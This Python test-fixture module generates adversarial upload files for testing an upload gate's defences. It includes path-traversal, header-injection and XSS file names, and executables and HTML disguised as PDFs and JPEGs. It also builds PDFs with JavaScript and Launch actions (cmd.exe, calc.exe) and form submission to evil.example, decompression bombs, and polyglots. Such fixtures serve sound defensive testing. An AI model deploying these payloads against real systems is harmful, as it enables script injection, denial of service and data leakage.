"""Files that try to fool, exhaust or outlive the upload gate; registered beside the honest ones of `drawn_files`."""

from __future__ import annotations

import io
import random
import zipfile

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image

from .drawn_files import as_jpeg, as_pdf, as_png, file, one_page, png_of_zeros, scan, scene, small

ODD_NAMES = (
    "证" * 251 + ".pdf",
    "证" * 400 + ".pdf",
    "../../etc/passwd.pdf",
    "..\\..\\windows\\win.pdf",
    "\u202efdp.exe.pdf",
    "毕业证📜🎓.pdf",
    "first\r\nSet-Cookie: a=b.pdf",
    "quo\"te;x='y'.pdf",
    "nul\x00byte.pdf",
    "  .pdf",
    "<img src=x onerror=alert(1)>.pdf",
)


@file("program.pdf")
def program() -> bytes:
    return b"MZ\x90\x00" + bytes(4096)


@file("page.jpg")
def page_as_jpeg() -> bytes:
    return b"<!doctype html><script>alert(document.cookie)</script>" + b" " * 2000


@file("office.pdf")
def office() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr(zipfile.ZipInfo("word/document.xml"), "<w:document/>")
    return stream.getvalue()


@file("heic.jpg")
def heic() -> bytes:
    return b"\0\0\0\x18ftypheic" + bytes(2000)


@file("really_png.jpg")
def really_png() -> bytes:
    return as_png(scene(64, 64))


@file("truncated.jpg")
def truncated_jpeg() -> bytes:
    whole = small()
    return whole[: len(whole) * 2 // 3]


@file("truncated.png")
def truncated_png() -> bytes:
    whole = as_png(scene(400, 300))
    return whole[: len(whole) - 600]


@file("encrypted.pdf")
def encrypted() -> bytes:
    return as_pdf(one_page(), encryption=pikepdf.Encryption(owner="owner", user="user"))


@file("restricted.pdf")
def restricted() -> bytes:
    """Opens without a password but forbids changes, as certificates from official sites do."""
    return as_pdf(
        one_page(), encryption=pikepdf.Encryption(owner="owner", user="", allow=pikepdf.Permissions(extract=False))
    )


@file("oversize.pdf")
def oversize() -> bytes:
    return one_page_bytes() + b"%" + random.Random(11).randbytes(11 * 1024 * 1024)


@file("empty.pdf")
def empty() -> bytes:
    return b""


def one_page_bytes() -> bytes:
    return as_pdf(one_page())


def script(code: str = "app.alert(1)") -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


@file("active.pdf")
def active() -> bytes:
    """JavaScript, open, launch, link and submit actions, an embedded file, rich media, XFA: one of each."""
    pdf = one_page()
    page, root = pdf.pages[0].obj, pdf.Root
    root.OpenAction = script()
    root.AA = Dictionary(WC=script("close()"))
    root.URI = Dictionary(Base=String("http://evil.example/"))
    pdf.attachments["payload.exe"] = b"MZ payload"
    root.Names.JavaScript = Dictionary(Names=Array([String("start"), pdf.make_indirect(script("named()"))]))
    root.AF = Array([Dictionary(Type=Name.Filespec, EF=Dictionary(F=pdf.make_stream(b"associated")))])
    page.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("cmd.exe")))
    page.PieceInfo = Dictionary(App=Dictionary(Private=String("hidden draft")))
    page.Metadata = pdf.make_stream(b"<x:xmpmeta>secret author</x:xmpmeta>")
    actions = [
        script("clicked()"),
        Dictionary(S=Name.Launch, F=String("calc.exe")),
        Dictionary(S=Name.URI, URI=String("http://evil.example/track")),
        Dictionary(S=Name.SubmitForm, F=String("http://evil.example/submit")),
        Dictionary(S=Name.GoToR, F=String("\\\\evil\\share"), D=Array([0, Name.Fit])),
    ]
    page.Annots = Array([pdf.make_indirect(link(action)) for action in actions] + [rich_media(pdf), form_field(pdf)])
    pdf.docinfo["/Author"] = "secret author"
    return as_pdf(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def link(action: Dictionary) -> Dictionary:
    box = Array([72, 700, 200, 740])
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=box, A=action, Border=Array([0, 0, 0]))


def rich_media(pdf: Pdf) -> Dictionary:
    assets = Dictionary(
        Names=Array([String("a.swf"), Dictionary(Type=Name.Filespec, EF=Dictionary(F=pdf.make_stream(b"FWS")))])
    )
    content = Dictionary(Assets=assets)
    return pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]), RichMediaContent=content)
    )


def form_field(pdf: Pdf) -> Dictionary:
    """Return a text field whose parent carries the script: what `pikepdf.sanitize` alone leaves behind."""
    parent = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("parent"), AA=Dictionary(K=script("keystroke()"))))
    child = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, Rect=Array([72, 600, 300, 630]), T=String("name"), Parent=parent
        )
    )
    child.V, child.DA = String("Filled in by hand"), String("/Helv 12 Tf 0 g")
    parent.Kids = Array([child])
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([parent]), NeedAppearances=True, DA=String("/Helv 12 Tf 0 g"), XFA=pdf.make_stream(b"<xdp:xdp/>"),
        CO=Array([child]),
        DR=Dictionary(Font=Dictionary(Helv=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))),
    )  # fmt: skip
    return child


@file("script_in_form.pdf")
def script_in_form() -> bytes:
    """A script hidden in the resources of the page, and a stream that names another file as its content."""
    pdf = one_page()
    hidden = pdf.make_stream(b"q Q", {"/Type": Name.XObject, "/Subtype": Name.Form, "/BBox": Array([0, 0, 9, 9])})
    hidden.Extra = script("hidden()")
    hidden.F = String("/etc/passwd")
    pdf.pages[0].obj.Resources.XObject = Dictionary(Fm0=hidden)
    return as_pdf(pdf)


@file("font_called_aa.pdf")
def font_called_aa() -> bytes:
    """Harmless: an author may call a font /AA."""
    pdf = one_page()
    pdf.pages[0].obj.Resources.Font = Dictionary({"/AA": pdf.pages[0].obj.Resources.Font.F1})
    pdf.pages[0].obj.Contents = pdf.make_stream(b"BT /AA 24 Tf 72 720 Td (Certificate) Tj ET")
    return as_pdf(pdf)


@file("bomb.png")
def bomb() -> bytes:
    """Four hundred megapixels in some 400 KB."""
    return png_of_zeros(20000, 20000)


@file("wide.png")
def wide() -> bytes:
    """Sixty megapixels: under the limit, and still to be dealt with in time."""
    return png_of_zeros(10000, 6000)


@file("progressive_bomb.jpg")
def progressive_bomb() -> bytes:
    """A progressive JPEG whose last scan is repeated two thousand times, each a pass over 36 megapixels."""
    return progressive(2000)


@file("slow_progressive.jpg")
def slow_progressive() -> bytes:
    """The same with few enough scans to be begun."""
    return progressive(40)


def progressive(repeats: int) -> bytes:
    whole = as_jpeg(Image.new("RGB", (7900, 7900), (90, 120, 60)), progressive=True, quality=10)
    last = whole.rindex(b"\xff\xda")
    return whole[:last] + whole[last:-2] * repeats + b"\xff\xd9"


@file("bomb.pdf")
def pdf_bomb() -> bytes:
    """A page of ten million shapes, deflated twice to a few kilobytes: seconds to read, minutes to draw."""
    pdf = one_page()
    pdf.pages[0].obj.Contents = pdf.make_stream(b"0 0 m 595 842 l 0 842 l 595 0 l S\n" * 3_000_000)
    return as_pdf(pdf)


@file("huge_image.pdf")
def huge_image() -> bytes:
    """A page whose picture claims 60,000 × 60,000 pixels."""
    pdf = one_page()
    claim = {"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 60000, "/Height": 60000}
    image = pdf.make_stream(bytes(1000), claim | {"/ColorSpace": Name.DeviceRGB, "/BitsPerComponent": 8})
    pdf.pages[0].obj.Resources.XObject = Dictionary(Im0=image)
    pdf.pages[0].obj.Contents = pdf.make_stream(b"q 595 0 0 842 0 0 cm /Im0 Do Q")
    return as_pdf(pdf)


@file("looping_pages.pdf")
def looping_pages() -> bytes:
    """A page tree that contains itself."""
    whole = one_page_bytes()
    return whole.replace(b"/Kids [ 3 0 R ]", b"/Kids [ 2 0 R ]")


@file("polyglot.jpg")
def polyglot() -> bytes:
    """A good photograph that is a web page in its comment and an archive at its end."""
    picture = as_jpeg(scene(320, 240), comment=b"<script>alert(1)</script>")
    return picture + office()


@file("polyglot.pdf")
def polyglot_pdf() -> bytes:
    """Begins as a web page, becomes a PDF within the first kilobyte: browsers and viewers disagree."""
    return b"<html><script>alert(1)</script><!--\n" + one_page_bytes()


@file("cmyk.jpg")
def cmyk() -> bytes:
    return as_jpeg(scene(640, 480).convert("CMYK"))


@file("grey16.png")
def grey16() -> bytes:
    """Sixteen bits of grey, 40000 of 65535 everywhere."""
    return as_png(Image.new("I;16", (300, 200), 40000))


@file("animated.png")
def animated() -> bytes:
    frames = [Image.new("RGB", (80, 80), colour) for colour in ("red", "green", "blue")]
    return as_png(frames[0], save_all=True, append_images=frames[1:])


@file("broken_xref.pdf")
def broken_xref() -> bytes:
    """All is there but the table that says where."""
    whole = one_page_bytes()
    return whole[: whole.rindex(b"xref\n0")] + b"xref\n0 1\ngarbage\nstartxref\n99999999\n%%EOF"


@file("truncated.pdf")
def truncated_pdf() -> bytes:
    whole = scan()
    return whole[: len(whole) // 3]


@file("500_pages.pdf")
def five_hundred_pages() -> bytes:
    pdf = Pdf.new()
    for _ in range(500):
        pdf.add_blank_page()
    return as_pdf(pdf)
